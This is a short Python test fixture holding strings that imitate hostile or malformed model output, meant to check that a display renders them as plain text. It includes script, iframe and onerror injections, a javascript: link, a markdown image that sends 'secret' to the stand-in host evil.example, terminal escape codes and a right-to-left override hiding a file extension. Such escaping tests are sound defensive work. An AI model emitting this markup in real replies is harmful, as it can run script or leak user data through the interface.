"""Texts of a hostile model, and of an unlucky one: what must stay text wherever it is shown.

`HOSTILE` wants to run or to load something; `SPLIT` is cut where no text should be.
"""

ELSEWHERE = "evil.example"
HOSTILE = f"""<script>window.hacked = 1</script>
<img src="http://{ELSEWHERE}/a.png" onerror="window.hacked = 2">

![secret](http://{ELSEWHERE}/leak?q=secret) [click](javascript:window.hacked=3)
[more](http://{ELSEWHERE}/page) <http://{ELSEWHERE}/auto>

<iframe src="http://{ELSEWHERE}"></iframe> \x1b[31mred\x1b]0;title\x07 \u202egnp.exe\u202c
"""
# Each whole once it is together: a letter with its accent, a person of two parts, a flag.
SPLIT = ("e", "\u0301 ", "\U0001f469", "\u200d", "\U0001f4bb ", "\U0001f1e9", "\U0001f1ea")
SPLIT_TOGETHER = "e\u0301 \U0001f469\u200d\U0001f4bb \U0001f1e9\U0001f1ea"
ARABIC = "\u0645\u0631\u062d\u0628\u0627 123 (abc)"
LONG_LINE = "x" * 1_000_000
